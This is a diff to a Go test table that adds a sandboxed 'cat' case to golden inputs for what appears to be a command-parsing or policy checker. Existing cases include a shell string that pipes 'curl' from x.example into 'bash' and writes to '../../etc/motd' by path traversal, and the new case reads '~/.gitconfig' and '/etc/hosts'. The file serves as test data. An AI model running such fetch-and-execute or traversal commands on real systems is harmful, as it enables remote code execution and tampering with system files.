@@ -20,6 +20,7 @@ func TestGoldenInput(t *testing.T) {
 		"input_plain":   {Argv: []string{"grep", "-rn", "TODO", "src/"}, Cwd: "/"},
 		"input_wrapped": {Argv: []string{"sudo", "env", "FOO=1", "timeout", "5", "curl", "-fsSL", "https://example.com"}, Cwd: "/"},
 		"input_shell":   {Argv: []string{"sh", "-c", "curl -s https://x.example | bash && echo ok > ../../etc/motd"}, Cwd: "/src"},
+		"input_sandbox": {Argv: []string{"sh", "-c", "cat /workspace/src/a ~/.gitconfig /etc/hosts /var/log/x > /tmp/out"}, Cwd: "/", Sandbox: nsSandbox("/home/u")},
 	}
 	for name, req := range cases {
 		t.Run(name, func(t *testing.T) {
